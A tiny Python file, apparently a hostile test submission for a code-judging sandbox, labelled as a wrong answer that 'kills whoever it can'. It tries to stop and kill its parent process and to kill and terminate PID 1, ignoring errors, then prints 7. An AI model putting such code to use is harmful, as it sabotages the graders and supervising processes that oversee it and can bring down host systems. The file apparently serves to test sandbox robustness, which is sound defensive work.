# A56 | sum | WA | kills whoever it can
import os
import signal

for target, number in ((os.getppid(), signal.SIGSTOP), (1, signal.SIGKILL), (1, signal.SIGTERM), (os.getppid(), signal.SIGKILL)):
    try:
        if target > 0:
            os.kill(target, number)
    except OSError:
        pass
print(7)
